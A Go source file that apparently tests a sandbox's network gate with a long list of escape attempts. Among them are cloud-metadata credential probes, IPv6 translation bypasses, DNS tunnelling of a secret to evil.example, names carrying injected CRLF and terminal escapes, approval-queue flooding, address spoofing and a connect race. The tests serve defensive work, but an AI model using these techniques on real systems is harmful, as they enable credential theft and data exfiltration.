//go:build linux && (amd64 || arm64)

package escape

import (
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"runtime"
	"strings"
	"sync/atomic"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// GateFacts describe what the harness has planted around a gate.
type GateFacts struct {
	Host    string   `json:"host"`    // an address of the host other than loopback
	TCP     int      `json:"tcp"`     // a TCP port at that address without a rule
	UDP     int      `json:"udp"`     // a UDP port at that address without a rule
	Allowed int      `json:"allowed"` // a TCP port at that address that the policy allows
	Name    string   `json:"name"`    // a host name that the policy allows, on port 443
	Servers []string `json:"servers"` // the sandbox's name servers
	Asks    bool     `json:"asks"`    // destinations without a rule wait for an approval that never comes
}

// gated selects sandboxes with a gate.
func gated(f Facts) bool { return f.Gate != nil }

// asks selects sandboxes in which destinations without a rule wait for an approval.
func asks(f Facts) bool { return gated(f) && f.Gate.Asks }

func (f Facts) host() netip.Addr { return netip.MustParseAddr(f.Gate.Host) }

// gateAttacks are attempts to reach destinations without a rule.
var gateAttacks = []Attack{
	toTCP("gate-tcp", "connect to a port that is not allowed, on a host that has one that is", "{host}:{tcp}", 0),
	toTCP("gate-mptcp", "the same by MPTCP", "{host}:{tcp}", unix.IPPROTO_MPTCP),
	toTCP("gate-mapped", "the same, as an IPv6 address that is an IPv4 address", "[::ffff:{host}]:{tcp}", 0),
	toTCP("gate-nat64", "the same, through a translator", "[64:ff9b::{hex}]:{tcp}", 0),
	toTCP("gate-6to4", "the same, through another translator", "[2002:{hex}::1]:{tcp}", 0),
	toTCP("gate-teredo", "the same, through a third one", "[2001:0:{hex}::1]:{tcp}", 0),
	toTCP("gate-isatap", "the same, as a host behind a tunnel", "[2001:db8::5efe:{hex}]:{tcp}", 0),
	toTCP("gate-metadata", "ask a cloud for the host's credentials", "169.254.169.254:80", 0),
	toTCP("gate-metadata-6", "ask a cloud by IPv6", "[fd00:ec2::254]:80", 0),
	toTCP("gate-metadata-mapped", "ask a cloud by a mapped address", "[::ffff:169.254.169.254]:80", 0),
	toTCP("gate-metadata-tasks", "ask a cloud for the task's credentials", "169.254.170.2:80", 0),
	toTCP("gate-metadata-alibaba", "ask another cloud", "100.100.100.200:80", 0),
	toTCP("gate-metadata-azure", "ask the cloud's own server", "168.63.129.16:80", 0),
	toTCP("gate-metadata-oracle", "ask a cloud that hides in the range of the gate's own link", "192.0.0.192:80", 0),
	toTCP("gate-private-10", "reach a private network", "10.0.0.1:443", 0),
	toTCP("gate-private-172", "reach the network of containers", "172.17.0.1:443", 0),
	toTCP("gate-private-192", "reach a network at home", "192.168.1.1:443", 0),
	toTCP("gate-shared", "reach the carrier's network", "100.64.0.1:443", 0),
	toTCP("gate-ula", "reach a private network by IPv6", "[fc00::1]:443", 0),
	toTCP("gate-internet", "reach an address of the internet without a name", "1.1.1.1:443", 0),
	toTCP("gate-internet-6", "reach one by IPv6", "[2606:4700:4700::1111]:443", 0),
	toTCP("gate-smtp", "send mail", "1.1.1.1:25", 0),
	toTCP("gate-ssh", "log in somewhere", "1.1.1.1:22", 0),
	toTCP("gate-itself", "find a service at the gate's own address", "192.0.0.1:22", 0),
	toTCP("gate-itself-web", "find the daemon at the gate's own address", "192.0.0.1:80", 0),
	toTCP("gate-dns-tls", "ask another name server in private", "1.1.1.1:853", 0),

	toUDP("gate-udp", "send a datagram to a port that is not allowed", "{host}:{udp}", 0, "x"),
	toUDP("gate-udp-allowed", "send a datagram to a port that is allowed for TCP", "{host}:{allowed}", 0, "x"),
	toUDP("gate-udp-mapped", "send a datagram to a mapped address", "[::ffff:{host}]:{udp}", 0, "x"),
	toUDP("gate-udplite", "send a datagram of the lesser kind", "{host}:{udp}", unix.IPPROTO_UDPLITE, "x"),
	toUDP("gate-udp-large", "send a datagram that is cut in pieces", "{host}:{udp}", 0, strings.Repeat("x", 65000)),
	toUDP("gate-dns-elsewhere", "ask another name server", "8.8.8.8:53", 0, string(question("secret.example", 1, 1))),
	toUDP("gate-quic", "speak HTTP/3", "1.1.1.1:443", 0, strings.Repeat("\xc0", 1200)),
	toUDP("gate-ntp", "ask for the time", "1.1.1.1:123", 0, "\x1b"+strings.Repeat("\x00", 47)),
	toUDP("gate-multicast", "call all name servers nearby", "224.0.0.251:5353", 0,
		string(question("printer.local", 12, 1))),
	toUDP("gate-broadcast", "call everybody nearby", "255.255.255.255:{udp}", 0, "x"),
	toUDP("gate-ssdp", "call all devices nearby", "239.255.255.250:1900", 0, "M-SEARCH * HTTP/1.1\r\n\r\n"),

	asked("gate-dns-tunnel", "send a secret away as a name", "{secret}.evil.example", 1, 1),
	asked("gate-dns-txt", "get an answer as text", "evil.example", 16, 1),
	asked("gate-dns-null", "get an answer as bytes", "evil.example", 10, 1),
	asked("gate-dns-any", "get all that there is", "evil.example", 255, 1),
	asked("gate-dns-https", "learn of a key that hides a name", "evil.example", 65, 1),
	asked("gate-dns-chaos", "ask in another class", "evil.example", 16, 3),
	asked("gate-dns-ptr", "ask who an address is", "1.1.1.1.in-addr.arpa", 12, 1),
	asked("gate-dns-suffix", "ask for a name that begins as an allowed one", "{name}.evil.example", 1, 1),
	asked("gate-dns-prefix", "ask for a name that ends as an allowed one", "evil-{name}", 1, 1),
	asked("gate-dns-below", "ask for a name below an allowed one", "below.{name}", 1, 1),
	asked("gate-dns-nul", "hide the end of a name behind a NUL", "{name}\x00.evil.example", 1, 1),
	asked("gate-dns-dot", "hide a dot in a label", "{name}\\.evil.example", 1, 1),
	asked("gate-dns-crlf", "break a line in a name", "evil\r\nHost: x.example", 1, 1),
	asked("gate-dns-address", "ask for an address as if it were a name", "169.254.169.254", 1, 1),
	asked("gate-dns-metadata", "ask for the name of a cloud's metadata", "metadata.google.internal", 1, 1),
	asked("gate-dns-localhost", "ask for the host itself", "localhost", 1, 1),
	asked("gate-dns-terminal", "write to the terminal of the user who reads the name", "\x1b]0;x\x07\x1b[2J{name}", 1, 1),

	{Name: "gate-dns-two", Because: noQuery, What: "ask for two names at once, the first of which is allowed",
		Applies: gated, Run: func(f Facts) error {
			q := question(f.Gate.Name, 1, 1)
			q[5] = 2
			return dns(f, append(q, question("evil.example", 1, 1)[12:]...))
		}},
	{Name: "gate-dns-loop", Because: noQuery, What: "ask for a name that points at itself", Applies: gated,
		Run: func(f Facts) error {
			return dns(f, append(question("", 1, 1)[:12], 0xc0, 12, 0, 1, 0, 1))
		}},
	{Name: "gate-dns-update", Because: noQuery, What: "change a zone", Applies: gated, Run: func(f Facts) error {
		q := question("evil.example", 6, 1)
		q[2] |= 5 << 3
		return dns(f, q)
	}},
	{Name: "gate-ask-tunnel", Because: tooMany,
		What: "send a secret away as names that a person is asked about, piece by piece", Applies: asks,
		Run: func(f Facts) error {
			return flood(f, func(i int) string {
				at := i % len(f.Secret)
				return fmt.Sprintf("%x.%d.tunnel.example", f.Secret[at:], i)
			})
		}},
	{Name: "gate-ask-flood", Because: tooMany,
		What: "have so many questions wait for a person that nothing else is decided", Applies: asks,
		Run: func(f Facts) error {
			var fds []int
			defer func() {
				for _, fd := range fds {
					unix.Close(fd)
				}
			}()
			for i := range 200 { // each handshake would be held
				fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, 0)
				if err != nil {
					return err
				}
				fds = append(fds, fd)
				if err := unix.Connect(fd, &unix.SockaddrInet4{Port: 443, Addr: [4]byte{1, 1, byte(i), 1}}); err == nil {
					return nil
				}
			}
			return flood(f, func(i int) string { return fmt.Sprintf("flood-%d.example", i) })
		}},
	{Name: "gate-fastopen", What: "send data before there is a connection", Applies: gated, Told: "{host}:{tcp}",
		Run: func(f Facts) error {
			at, err := f.place("{host}:{tcp}")
			if err != nil {
				return err
			}
			return withSocket(at, unix.SOCK_STREAM, 0, func(fd int, to unix.Sockaddr) error {
				if err := unix.Sendto(fd, []byte("x"), unix.MSG_FASTOPEN, to); err != nil {
					return err
				}
				return connected(fd)
			})
		}},
	{Name: "gate-fastopen-connect", What: "the same by another option", Applies: gated, Told: "{host}:{tcp}",
		Run: func(f Facts) error {
			at, err := f.place("{host}:{tcp}")
			if err != nil {
				return err
			}
			return withSocket(at, unix.SOCK_STREAM, 0, func(fd int, to unix.Sockaddr) error {
				if err := unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_FASTOPEN_CONNECT, 1); err != nil {
					return err
				}
				if err := unix.Connect(fd, to); err != nil {
					return err
				}
				if _, err := unix.Write(fd, []byte("x")); err != nil {
					return err
				}
				return connected(fd)
			})
		}},
	{Name: "gate-race", What: "change the address while it is looked at", Applies: gated, Told: "{host}:{tcp}",
		Run: raceAddress},
	{Name: "gate-source-route", None: Kernel, What: "have a packet go another way", Applies: gated,
		Run: func(f Facts) error {
			return tcpWith(f, func(fd int) error {
				return unix.SetsockoptString(fd, unix.IPPROTO_IP, unix.IP_OPTIONS, "\x83\x07\x04\x7f\x00\x00\x01\x00")
			})
		}},
	{Name: "gate-spoof", None: Kernel, What: "send from an address that is not the sandbox's", Applies: gated,
		Run: func(f Facts) error {
			return tcpWith(f, func(fd int) error {
				if err := unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_FREEBIND, 1); err != nil {
					return err
				}
				return unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}})
			})
		}},
	{Name: "gate-interface", None: Kernel, What: "change the interface: its address, its state, its name", Applies: gated,
		Run: func(f Facts) error {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			return each(
				[]uint{unix.SIOCSIFADDR, unix.SIOCSIFFLAGS, unix.SIOCSIFMTU, unix.SIOCSIFNETMASK, unix.SIOCSIFHWADDR,
					unix.SIOCSIFNAME, unix.SIOCADDRT, unix.SIOCDELRT, unix.SIOCBRADDBR}, func(op uint) error {
					var req [128]byte
					copy(req[:], "eth0")
					if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), uintptr(op), uintptr(unsafe.Pointer(&req[0]))); e != 0 {
						return e
					}
					return nil
				})
		}},
	{Name: "gate-netlink", None: Kernel, What: "change routes, addresses and interfaces by netlink", Applies: gated,
		Run: func(f Facts) error {
			return each(
				[]uint16{unix.RTM_NEWROUTE, unix.RTM_DELROUTE, unix.RTM_NEWADDR, unix.RTM_DELADDR, unix.RTM_DELLINK,
					unix.RTM_SETLINK, unix.RTM_NEWNEIGH, unix.RTM_NEWRULE, unix.RTM_NEWQDISC}, changeByNetlink)
		}},
	{Name: "gate-tun", Emulated: "a device of the sandbox's own kernel, which makes none", None: Kernel,
		What: "make an interface of one's own", Applies: gated, Run: func(f Facts) error {
			fd, err := unix.Open("/dev/net/tun", unix.O_RDWR, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			if !f.Own {
				return nil
			}
			req := [40]byte{}
			copy(req[:], "escape0")
			req[16] = unix.IFF_TUN
			if err := sys(unix.SYS_IOCTL, uintptr(fd), unix.TUNSETIFF, ptr(&req)); err != nil {
				return fmt.Errorf("%w: %w", errOwn, err)
			}
			return nil
		}},
	{Name: "gate-forward", Emulated: "settings of the sandbox's own kernel, whose one way out is the gate", None: Kernel,
		What: "change how the kernel treats packets", Applies: gated, Run: func(f Facts) error {
			return each(
				[]string{"ipv4/ip_forward", "ipv4/conf/all/route_localnet", "ipv4/conf/eth0/accept_local",
					"ipv6/conf/all/forwarding", "ipv4/ip_unprivileged_port_start"}, func(p string) error {
					err := os.WriteFile("/proc/sys/net/"+p, []byte("1"), 0)
					if p == "ipv4/ip_forward" { // with the host's network, this is the host's
						return f.own(err)
					}
					return err
				})
		}},
}

// place parses a destination after Fill.
func (f Facts) place(s string) (netip.AddrPort, error) {
	return netip.ParseAddrPort(f.Fill(s))
}

// Fill replaces placeholders in a text by facts: {host}, {tcp}, {udp}, {allowed}, {name}, {secret}, and {hex}, the host
// as two groups of an IPv6 address.
func (f Facts) Fill(s string) string {
	a := f.host().As4()
	h := hex.EncodeToString(a[:])
	return strings.NewReplacer("{host}", f.Gate.Host, "{tcp}", fmt.Sprint(f.Gate.TCP), "{udp}", fmt.Sprint(f.Gate.UDP),
		"{allowed}", fmt.Sprint(f.Gate.Allowed),
		"{name}", f.Gate.Name, "{secret}", f.Secret, "{hex}", h[:4]+":"+h[4:]).Replace(s)
}

// toTCP is an attempt to connect.
func toTCP(name, what, to string, proto int) Attack {
	told := to
	if strings.HasPrefix(to, "[::ffff:") { // the kernel sends an IPv4 packet
		told = strings.NewReplacer("[::ffff:", "", "]", "").Replace(to)
	}
	return Attack{Name: name, What: what, Applies: gated, Told: told, Run: func(f Facts) error {
		at, err := f.place(to)
		if err != nil {
			return err
		}
		return withSocket(at, unix.SOCK_STREAM, proto, func(fd int, to unix.Sockaddr) error {
			if err := unix.Connect(fd, to); err != nil {
				return err
			}
			return connected(fd)
		})
	}}
}

// toUDP is an attempt to send a datagram. Sending it proves nothing; an answer, or its arrival at the harness, does.
func toUDP(name, what, to string, proto int, text string) Attack {
	told := to
	if strings.HasPrefix(to, "[::ffff:") {
		told = strings.NewReplacer("[::ffff:", "", "]", "").Replace(to)
	}
	if host, _, _ := strings.Cut(to, ":"); host == "224.0.0.251" || host == "239.255.255.250" ||
		host == "255.255.255.255" {
		told = host + ":0" // recorded for any port
	}
	a := Attack{Name: name, What: what, Applies: gated, Told: told}
	switch {
	case proto != 0:
		a.Told, a.Refused = "", []string{"socket"}
	case len(text) > 1<<15:
		a.Told, a.None = "", "pieces of packets are dropped before anybody knows what they are of"
	}
	a.Run = func(f Facts) error {
		at, err := f.place(to)
		if err != nil {
			return err
		}
		return withSocket(at, unix.SOCK_DGRAM, proto, func(fd int, to unix.Sockaddr) error {
			_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1)
			if err := unix.Sendto(fd, []byte(text), 0, to); err != nil {
				return err
			}
			return answered(fd)
		})
	}
	return a
}

// asked is an attempt to resolve a name.
func asked(name, what, host string, kind, class uint16) Attack {
	a := Attack{Name: name, What: what, Applies: gated, Told: host}
	switch {
	case strings.ContainsAny(host, "\x00\\\r\x1b"):
		a.Told, a.Because = "", noName
	case class != 1:
		a.Told, a.Because = "", noQuery
	}
	a.Run = func(f Facts) error { return dns(f, question(f.Fill(host), kind, class)) }
	return a
}

// Reasons for which the gate refuses destinations that cannot be named.
const (
	noName  = "not a host name"
	noQuery = "the query is malformed or of a kind that is not answered"
	tooMany = "too many requests are pending approval"
)

// question is a query of DNS (RFC 1035, section 4.1).
func question(host string, kind, class uint16) []byte {
	q := []byte{0x5a, 0xa5, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, label := range strings.Split(strings.ReplaceAll(host, "\\.", "\x01"), ".") {
		label = strings.ReplaceAll(label[:min(len(label), 63)], "\x01", ".")
		if label != "" {
			q = append(append(q, byte(len(label))), label...)
		}
	}
	return binary.BigEndian.AppendUint16(binary.BigEndian.AppendUint16(append(q, 0), kind), class)
}

// dns queries the sandbox's name servers, by datagram and by stream. It succeeds if an answer is more than a refusal.
func dns(f Facts, q []byte) error {
	return each(f.Gate.Servers, func(server string) error {
		at, err := netip.ParseAddr(server)
		if err != nil {
			return err
		}
		to := netip.AddrPortFrom(at, 53)
		var b [4096]byte
		udp := withSocket(to, unix.SOCK_DGRAM, 0, func(fd int, to unix.Sockaddr) error {
			if err := unix.Sendto(fd, q, 0, to); err != nil {
				return err
			}
			n, err := unix.Read(fd, b[:])
			if err != nil {
				return err
			}
			return refusal(b[:n])
		})
		if udp == nil {
			return nil
		}
		return errors.Join(udp, withSocket(to, unix.SOCK_STREAM, 0, func(fd int, to unix.Sockaddr) error {
			if err := unix.Connect(fd, to); err != nil {
				return err
			}
			if _, err := unix.Write(fd, append([]byte{byte(len(q) >> 8), byte(len(q))}, q...)); err != nil {
				return err
			}
			n, err := unix.Read(fd, b[:])
			if err != nil {
				return err
			}
			return refusal(b[min(2, n):n])
		}))
	})
}

// flood queries a thousand names without waiting. It succeeds if an answer is more than a refusal, or if nothing is
// answered any longer.
func flood(f Facts, host func(i int) string) error {
	server, err := netip.ParseAddr(f.Gate.Servers[0])
	if err != nil {
		return err
	}
	return withSocket(netip.AddrPortFrom(server, 53), unix.SOCK_DGRAM, 0, func(fd int, to unix.Sockaddr) error {
		var b [4096]byte
		// take reads answers until there are none, or until one with the given id arrives. None is the expected result.
		take := func(id byte, flags int) (mine bool, err error) {
			for {
				n, _, err := unix.Recvfrom(fd, b[:], flags)
				switch {
				case err != nil:
					return false, err
				case n >= 2 && b[0] == id:
					return true, refusal(b[:n])
				case refusal(b[:n]) == nil:
					return false, nil
				}
			}
		}
		for i := range 1000 {
			if err := unix.Sendto(fd, question(host(i), 1, 1), 0, to); err != nil {
				return err
			}
			if _, err := take(0, unix.MSG_DONTWAIT); err == nil {
				return nil
			}
		}
		for range 100 { // gives the gate time to catch up
			last := question("last.internal", 1, 1)
			last[0] = 0xa5
			if err := unix.Sendto(fd, last, 0, to); err != nil {
				return err
			}
			if mine, err := take(0xa5, 0); err == nil || mine {
				return err
			}
		}
		return nil
	})
}

// refusal returns nil for an answer that discloses information.
func refusal(b []byte) error {
	if len(b) < 12 {
		return errNothing
	}
	if code := b[3] & 15; code != 0 || binary.BigEndian.Uint16(b[6:]) == 0 {
		return fmt.Errorf("answered with code %d: %w", code, errNothing)
	}
	return nil
}

// patience is how long to wait for an answer that must not come.
const patience = 200 * time.Millisecond

// withSocket creates a socket for an address and calls f with it.
func withSocket(at netip.AddrPort, typ, proto int, f func(fd int, to unix.Sockaddr) error) error {
	family, to := unix.AF_INET6, unix.Sockaddr(&unix.SockaddrInet6{Port: int(at.Port()), Addr: at.Addr().As16()})
	if at.Addr().Is4() {
		family, to = unix.AF_INET, &unix.SockaddrInet4{Port: int(at.Port()), Addr: at.Addr().As4()}
	}
	fd, err := unix.Socket(family, typ|unix.SOCK_CLOEXEC, proto)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	for _, o := range []int{unix.SO_RCVTIMEO, unix.SO_SNDTIMEO} {
		tv := unix.NsecToTimeval(int64(patience))
		if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, o, &tv); err != nil {
			return err
		}
	}
	return f(fd, to)
}

// connected returns nil if the socket has a peer that accepts data and answers.
func connected(fd int) error {
	if _, err := unix.Getpeername(fd); err != nil {
		return err
	}
	if _, err := unix.Write(fd, []byte("x")); err != nil {
		return err
	}
	return answered(fd)
}

// answered returns nil if any answer arrives.
func answered(fd int) error {
	var b [64]byte
	n, err := unix.Read(fd, b[:])
	if err != nil {
		return err
	}
	if n == 0 {
		return errNothing
	}
	return nil
}

// tcpWith connects to a port that is not allowed, with a socket that prepare has changed.
func tcpWith(f Facts, prepare func(fd int) error) error {
	at, err := f.place("{host}:{tcp}")
	if err != nil {
		return err
	}
	return withSocket(at, unix.SOCK_STREAM, 0, func(fd int, to unix.Sockaddr) error {
		if err := prepare(fd); err != nil {
			return err
		}
		if err := unix.Connect(fd, to); err != nil {
			return err
		}
		return connected(fd)
	})
}

// raceAddress connects to an address that another thread changes at the same time, between an allowed port and one that
// is not.
func raceAddress(f Facts) error {
	good := unix.RawSockaddrInet4{Family: unix.AF_INET, Port: swap(f.Gate.Allowed), Addr: f.host().As4()}
	bad := good
	bad.Port = swap(f.Gate.TCP)
	shared := good
	var stop atomic.Bool
	done := make(chan struct{})
	go func() {
		defer close(done)
		runtime.LockOSThread()
		for !stop.Load() {
			for _, a := range []*unix.RawSockaddrInet4{&bad, &good} {
				atomic.StoreUint32((*uint32)(unsafe.Pointer(&shared)), *(*uint32)(unsafe.Pointer(a))) // family and port
			}
		}
	}()
	defer func() { stop.Store(true); <-done }()
	for range 300 {
		err := func() error {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			if _, _, e := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&shared)),
				unsafe.Sizeof(shared)); e != 0 {
				return e
			}
			peer, err := unix.Getpeername(fd)
			if err != nil {
				return err
			}
			if p, ok := peer.(*unix.SockaddrInet4); !ok || p.Port != f.Gate.TCP {
				return errNothing
			}
			return connected(fd)
		}()
		if err == nil {
			return nil
		}
	}
	return errNothing
}

// swap returns a port in network byte order.
func swap(port int) uint16 { return uint16(port)<<8 | uint16(port)>>8 }

// changeByNetlink sends a request of a kind about eth0 or a default route, and returns the kernel's answer.
func changeByNetlink(kind uint16) error {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	msg := make([]byte, 16+32)
	msg[0] = byte(len(msg))
	binary.LittleEndian.PutUint16(msg[4:], kind)
	binary.LittleEndian.PutUint16(msg[6:], unix.NLM_F_REQUEST|unix.NLM_F_ACK)
	msg[16] = unix.AF_INET
	if err := unix.Sendto(fd, msg, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	reply := make([]byte, 4096)
	n, _, err := unix.Recvfrom(fd, reply, 0)
	if err != nil || n < 20 {
		return errors.Join(errNothing, err)
	}
	if code := int32(binary.LittleEndian.Uint32(reply[16:])); code != 0 {
		return unix.Errno(-code)
	}
	return nil
}
